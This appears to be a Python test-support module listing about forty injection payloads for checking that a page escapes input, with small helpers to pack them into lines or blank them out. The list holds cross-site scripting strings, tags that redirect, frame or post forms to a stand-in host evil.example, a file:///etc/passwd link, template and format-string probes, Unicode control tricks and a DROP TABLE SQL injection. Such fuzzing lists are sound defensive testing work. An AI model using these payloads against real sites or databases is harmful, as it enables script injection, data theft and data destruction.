"""What people type who want a page to do something else than show it."""

from collections.abc import Iterator

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "'><svg/onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "--><script>alert(10)</script><!--",
    "]]><script>alert(11)</script>",
    "<a href=javascript:alert(12)>x</a>",
    "javascript:alert(13)",
    "data:text/html,<script>alert(14)</script>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=p></form>",
    "<style>@import'//evil.example';*{display:none}</style>",
    "<body onload=alert(24)>",
    "<details open ontoggle=alert(25)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(26)>",
    "<input autofocus onfocus=alert(27)>",
    '" onmouseover="alert(28)" x="',
    "' onmouseover='alert(29)' x='",
    "` onmouseover=alert(30) ",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "&#60;script&#62;alert(32)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(33)\\u003c/script\\u003e",
    "＜script＞alert(34)＜/script＞",
    "{{7*7}}{{config}}{%print(7*7)%}${7*7}#{7*7}<%=7*7%>",
    "%(password)s %s %d {0} {request} %n",
    "\u2028alert(37)\u2029",
    "\u202e)83(trela<script>\u202c",
    "\x0b\x1b[31m\x07\ufffe\ufeff\U0001f600",
    "'; DROP TABLE person; --",
)


def lines_of(payloads: tuple[str, ...], longest: int) -> Iterator[str]:
    """All payloads in as few lines of at most `longest` letters as they fit in, in their order."""
    line = ""
    for payload in payloads:
        if line and len(line) + len(payload) >= longest:
            yield line
            line = ""
        line = f"{line} {payload}" if line else payload
    yield line


def harmless(text: str) -> str:
    """Words of the same length that mean nothing to anybody."""
    return "".join(sign if sign.isspace() else "m" for sign in text)
